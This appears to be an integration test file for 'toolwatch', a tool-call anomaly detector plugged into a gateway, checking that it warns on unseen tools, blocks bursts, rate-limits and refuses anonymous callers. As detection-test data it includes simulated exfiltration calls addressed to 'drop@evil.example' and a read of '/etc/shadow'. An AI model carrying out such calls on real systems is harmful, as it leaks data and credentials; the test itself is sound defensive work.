// toolwatch loaded by ContextForge's own plugin framework (cpex's TenantPluginManager and the gateway's MCP
// client), over streamable HTTP and over STDIO, driven the way the gateway's tool service drives it.
// Real time throughout: the server is `toolwatch serve` as the CLI starts it, with its own clock.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  drive,
  ensureVenv,
  mcpIdentity,
  restIdentity,
  serve,
  skipReason,
  stdioCmd,
  toolwatchEntry,
  writeConfig,
  type CallOutcome,
  type DriveResult,
  type Op,
  type Served,
} from "./harness.js";

const PLUGIN = "ToolCallAnomalyDetection";

// Learning shortened to calls, not hours, since a run lasts seconds; a 2 s burst window so a paced
// stream stays under it. The fixed off-hours window is off so the result does not depend on the hour.
const DETECTOR = {
  minCalls: 5,
  learningWindowSeconds: 0,
  tenantMinCalls: 5,
  tenantLearningWindowSeconds: 0,
  offHoursStart: 0,
  offHoursEnd: 0,
  burstWindowSeconds: 2,
  burstThreshold: 20,
  anonymous: "refuse",
};

const alice = mcpIdentity("alice@acme.example", "team-tools");
const bob = mcpIdentity("bob@acme.example", "team-tools");
const dave = restIdentity("dave@acme.example", "team-dave");

/** Three principals take turns every 200 ms: each stays under rateSpikeMinCalls in any window. */
function routine(rounds: number): Op[] {
  const ops: Op[] = [];
  for (let i = 0; i < rounds; i++) {
    for (const identity of [alice, bob, dave]) {
      ops.push({
        op: "call",
        tool: i % 2 ? "read_file" : "list_files",
        args: { path: `/docs/${i % 3}` },
        identity,
        post: true,
        label: "routine",
      });
      ops.push({ op: "sleep", ms: 200 });
    }
  }
  return ops;
}

/** The gateway's stream: routine, a new tool, the same on the REST path, an exfiltration burst, a volume burst. */
function stream(): Op[] {
  return [
    ...routine(10),
    { op: "sleep", ms: 2100 },
    { op: "call", tool: "search_wiki", args: { q: "roadmap" }, identity: alice, post: true, label: "new-tool" },
    { op: "call", tool: "search_wiki", args: { q: "roadmap" }, identity: dave, post: true, label: "new-tool-rest" },
    ...Array.from(
      { length: 25 },
      (_, i): Op => ({
        op: "call",
        tool: `export_table_${i}`,
        args: { to: "drop@evil.example" },
        identity: alice,
        label: "exfil",
      }),
    ),
    ...Array.from(
      { length: 30 },
      (): Op => ({ op: "call", tool: "read_file", args: { path: "/docs/1" }, identity: bob, label: "volume" }),
    ),
    {
      op: "call",
      tool: "list_files",
      args: { path: "/" },
      identity: { user: "unknown", tenant_id: "team-tools" },
      label: "unauthenticated",
    },
    // arguments never reach an external plugin through the gateway's payload policies (see below), so
    // the input the core refuses here is the tool name: over its 256-byte limit
    { op: "call", tool: `lookup_${"x".repeat(300)}`, identity: dave, label: "refused-input" },
  ];
}

const labelled = (ops: Op[], r: DriveResult, label: string): CallOutcome[] =>
  ops
    .filter((o) => o.op === "call")
    .map((o, i) => [o, r.ops[i]] as const)
    .filter(([o]) => (o as { label?: string }).label === label)
    .map(([, x]) => x as CallOutcome);

function checkGatewayStream(ops: Op[], r: DriveResult): void {
  expect(r.init_error).toBeUndefined();
  expect(r.loaded).toBe(1);

  // routine calls continue, and each post hook sees what its pre hook decided (state carried)
  const routineCalls = labelled(ops, r, "routine");
  expect(routineCalls).toHaveLength(30);
  for (const c of routineCalls) {
    expect(c.pre.raised, c.pre.message).toBeUndefined();
    expect(c.pre.continue).toBe(true);
    expect(c.pre.metadata!.toolwatch.action).not.toBe("block");
    expect(c.post!.continue).toBe(true);
    expect(c.post!.metadata!.toolwatch.action).toBe(c.pre.metadata!.toolwatch.action);
    expect(c.post!.metadata!.toolwatch.outcome).toBe("ok");
    expect(c.post!.metadata!.toolwatch.tracked).toBe(true);
  }
  // once learned, routine calls are plainly allowed
  expect(routineCalls.slice(-6).every((c) => c.pre.metadata!.toolwatch.action === "allow")).toBe(true);

  // a never-seen tool is warned, with the reason, on the MCP transport and on the REST path alike
  for (const c of [...labelled(ops, r, "new-tool"), ...labelled(ops, r, "new-tool-rest")]) {
    expect(c.pre.continue).toBe(true);
    const tw = c.pre.metadata!.toolwatch;
    expect(tw.action).toBe("warn");
    expect(tw.reasons.map((x: { code: string }) => x.code)).toContain("UNSEEN_TOOL");
    expect(c.post!.metadata!.toolwatch.action).toBe("warn");
    // result metadata never carries who called
    expect(JSON.stringify(c.pre.metadata)).not.toMatch(/acme\.example|team-/);
  }

  // a burst of never-seen tools is stopped with PluginViolationError carrying the gateway's fields
  const exfil = labelled(ops, r, "exfil");
  const firstBlock = exfil.findIndex((c) => c.pre.raised !== undefined);
  expect(firstBlock).toBeGreaterThanOrEqual(0);
  for (const c of exfil.slice(firstBlock)) {
    expect(c.pre.raised).toBe("PluginViolationError");
    const v = c.pre.violation!;
    expect(v.code).toBe("BLOCKED");
    expect(v.reason).toBeTruthy();
    expect(v.description).toMatch(/UNSEEN_TOOL/);
    expect(v.http_status_code).toBe(403);
    expect(v.mcp_error_code).toBe(-32003);
    expect(v.details.toolwatch.action).toBe("block");
  }

  // a burst of one known tool is answered 429 with Retry-After
  const volume = labelled(ops, r, "volume");
  const limited = volume.filter((c) => c.pre.raised === "PluginViolationError");
  expect(limited.length).toBeGreaterThan(0);
  for (const c of limited) {
    const v = c.pre.violation!;
    expect(v.code).toBe("RATE_LIMIT");
    expect(v.http_status_code).toBe(429);
    expect(v.http_headers!["Retry-After"]).toBe("2");
    expect(v.details.retry_delay_ms).toBe(2000);
  }
  // and the calls before the threshold went through
  expect(volume[0]!.pre.continue).toBe(true);

  // an unauthenticated caller ("unknown") is no identity: refused under anonymous: refuse
  const [anon] = labelled(ops, r, "unauthenticated");
  expect(anon!.pre.raised).toBe("PluginViolationError");
  expect(anon!.pre.violation!.http_status_code).toBe(403);

  // arguments the detector refuses are a decision (failurePolicy closed: blocked), not a plugin error
  const [refused] = labelled(ops, r, "refused-input");
  expect(refused!.pre.raised).toBe("PluginViolationError");
  expect(refused!.pre.violation!.code).toBe("BLOCKED");
  expect(refused!.pre.violation!.description).toMatch(/TOO_LONG|256/);
  expect(refused!.pre.violation!.details.toolwatch.action).toBe("block");
}

describe.skipIf(skipReason !== undefined)("ContextForge's plugin manager drives toolwatch serve", () => {
  let http: Served;
  let config: string;

  beforeAll(async () => {
    ensureVenv();
    config = writeConfig(DETECTOR);
    http = await serve(config, ["--log-level", "warn"]);
  }, 240_000);
  afterAll(async () => {
    await http?.close();
  });

  it("get_plugin_config's answer passes cpex's own PluginConfig validation (an external kind would not)", async () => {
    const r = await drive({ ops: [{ op: "validate_config", url: http.url, name: PLUGIN.toLowerCase() }] });
    const v = r.ops[0];
    expect(v.error).toBeNull();
    expect(v.valid).toBe(true);
    expect(v.answer.name).toBe(PLUGIN);
    expect(v.answer.hooks).toEqual(["tool_pre_invoke", "tool_post_invoke"]);
    expect(v.external_refused).toMatch(/external/);
  });

  it("over streamable HTTP: loads, continues, warns, blocks, rate-limits, carries state pre -> post", async () => {
    const ops = stream();
    const r = await drive({ plugins: [toolwatchEntry({ url: http.url })], ops });
    checkGatewayStream(ops, r);
  }, 120_000);

  it("over STDIO: the manager starts `toolwatch serve --stdio` itself, with the same results", async () => {
    const ops = stream();
    const r = await drive({ plugins: [toolwatchEntry({ cmd: stdioCmd(config) })], ops });
    checkGatewayStream(ops, r);
  }, 120_000);

  it("the gateway's payload policies hide tool arguments from an external plugin (cpex 0.1.0)", async () => {
    // With policies the framework hands plugins a copy-on-write view of the payload whose arguments
    // serialise as {}: over MCP, toolwatch serve never sees them. Without policies they arrive. If a
    // framework release fixes this, this test fails and docs/GATEWAY.md must say so.
    const shapes = (who: string): Op[] => {
      const identity = mcpIdentity(who, "team-args");
      const ops: Op[] = [];
      for (let i = 0; i < 8; i++)
        ops.push(
          { op: "call", tool: "read_file", args: { path: `/docs/${i % 3}` }, identity },
          { op: "sleep", ms: 150 },
        );
      ops.push({
        op: "call",
        tool: "read_file",
        args: { path: "/etc/shadow", follow_links: true, depth: 9 },
        identity,
      });
      return ops;
    };
    const last = (r: DriveResult) => (r.ops.at(-1) as CallOutcome).pre.metadata!.toolwatch;
    const own = await serve(config, ["--log-level", "warn"]);
    try {
      const gateway = await drive({ plugins: [toolwatchEntry({ url: own.url })], ops: shapes("ivan@acme.example") });
      expect(last(gateway).signals.unseen_arg_shape).toBe(0);
      const unpoliced = await drive({
        plugins: [toolwatchEntry({ url: own.url })],
        ops: shapes("judy@acme.example"),
        policies: false,
      });
      expect(last(unpoliced).signals.unseen_arg_shape).toBeGreaterThan(0);
      // the server says so in its log once a long run of calls has come without arguments
      const warning = /tool calls all arrived with empty arguments/;
      expect(own.stderr()).not.toMatch(warning);
      const many: Op[] = Array.from({ length: 100 }, (_, i) => ({
        op: "call",
        tool: "read_file",
        args: { path: `/docs/${i}` },
        identity: mcpIdentity("kim@acme.example", "team-args"),
      }));
      await drive({ plugins: [toolwatchEntry({ url: own.url })], ops: many });
      expect(own.stderr()).toMatch(warning);
    } finally {
      await own.close();
    }
  }, 90_000);

  it("the gateway's plugin file refuses an IP-literal URL unless SSRF protection is off", async () => {
    const literal = http.url.replace("//localhost:", "//127.0.0.1:");
    const ops: Op[] = [{ op: "call", tool: "list_files", identity: alice }];
    const refused = await drive({ plugins: [toolwatchEntry({ url: literal })], ops });
    expect(refused.config_error).toMatch(/SSRF protection \(127\.0\.0\.1\)/);
    const allowed = await drive(
      { plugins: [toolwatchEntry({ url: literal })], ops },
      { PLUGINS_SSRF_PROTECTION_ENABLED: "false" },
    );
    expect(allowed.loaded).toBe(1);
    expect(allowed.ops[0].pre.metadata.toolwatch.action).toBeTypeOf("string");
  }, 60_000);

  it("a plugin that cannot load is skipped silently by default, and stops the gateway with PLUGINS_FAIL_ON_PLUGIN_ERROR", async () => {
    // a name this server does not serve: get_plugin_config answers {} and the plugin fails to start
    const broken = toolwatchEntry({ url: http.url }, "NoSuchPlugin");
    const ops: Op[] = [{ op: "call", tool: "export_everything", identity: alice }];
    const silent = await drive({ plugins: [broken], ops });
    expect(silent.init_error).toBeUndefined();
    expect(silent.loaded).toBe(0);
    // nothing checked the call: it simply runs
    expect(silent.ops[0].pre.continue).toBe(true);
    expect(silent.ops[0].pre.metadata).toEqual({});
    const strict = await drive({ plugins: [broken], ops }, { PLUGINS_FAIL_ON_PLUGIN_ERROR: "true" });
    expect(strict.init_error).toMatch(/Plugin initialization failed: NoSuchPlugin/);
  }, 60_000);
});
